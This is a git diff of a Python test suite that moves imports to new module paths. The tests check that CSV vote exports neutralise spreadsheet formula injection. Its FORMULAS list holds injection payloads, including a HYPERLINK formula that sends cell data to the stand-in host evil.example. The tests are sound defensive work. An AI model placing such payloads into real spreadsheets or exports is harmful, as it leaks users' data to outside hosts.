@@ -23,8 +23,8 @@ import pandas as pd
 import pytest
 
 from clo.__main__ import main
-from clo.space import MARKER, build_space
-from clo.votes import open_store
+from clo.app.space import MARKER, build_space
+from clo.evaluate.store import open_store
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
@@ -117,7 +117,7 @@ def assert_neutralised(path: Path) -> None:
 
 
 def test_formula_cells_are_neutralised_in_both_csv_exports_and_kept_exact_elsewhere(tmp_path, capsys):
-    from clo.ui.leaderboard import Board
+    from clo.app.ui.leaderboard import Board
 
     db = store_with_votes(tmp_path / "votes.db", prompts=FORMULAS)
     assert cli(capsys, "votes", "export", "--db", db, "--out", tmp_path / "v.csv", "--format", "csv")[0] == 0
@@ -185,7 +185,7 @@ def test_space_build_into_an_empty_mount_point(tmp_path):
 # ---- 3. models get: the user's dot folders ----
 
 def test_models_get_leaves_the_users_unmarked_dot_folders_alone(project):
-    from clo.registry import get
+    from clo.models.table import get
 
     parent = project / "P"
     keep = {parent / ".tmp-mynotes" / "notes.txt": b"my notes", parent / ".old-photos-2019" / "beach.jpg": b"\xff\xd8"}
